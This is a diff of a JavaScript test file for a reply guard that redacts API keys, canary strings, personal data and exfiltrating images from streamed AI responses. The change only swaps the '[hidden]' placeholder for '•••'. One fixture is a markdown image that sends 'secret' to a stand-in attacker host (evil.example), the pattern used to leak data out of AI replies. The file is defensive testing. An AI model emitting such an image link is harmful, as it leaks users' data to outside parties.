@@ -14,7 +14,7 @@ const later = untilFileEnds();
 // Put together, so that nothing here looks like a key.
 const BODY = ["proj", "0123456789abcdefghijkl"].join("-");
 const KEY = `sk-${BODY}`;
-const HIDDEN = "sk-[hidden]";
+const HIDDEN = "sk-•••";
 const CANARY = "kx7-planted-canary";
 const IMAGE = "![](https://evil.example/?q=secret)";
 
@@ -152,7 +152,7 @@ test("tool-call arguments are read decoded: escapes and pieces hide nothing", as
 test("an image that would carry text out is hidden, links stay", async () => {
   answer("image", streamed(split(`See ${IMAGE} and [this](https://docs.example/x).`)));
   const { choices } = await readChoices("image please");
-  assert.equal(choices[0].content, "See ![[hidden] and [this](https://docs.example/x).");
+  assert.equal(choices[0].content, "See ![•••] and [this](https://docs.example/x).");
 });
 
 test("a canary cuts the reply: a valid end, the backend left, one line in the log", async () => {
@@ -222,7 +222,7 @@ test("observe changes nothing and tells; personal data is hidden where asked for
   const strict = await startServer(t, {
     env: { ...upstream.env, GATEHOUSE_GUARD_REPLY_PERSONAL: "enforce" },
   });
-  assert.equal(await ask(strict, "person"), "Write to [hidden] now.");
+  assert.equal(await ask(strict, "person"), "Write to ••• now.");
   assert.equal(await ask(server, "person"), person, "by default it is only observed");
 });
 
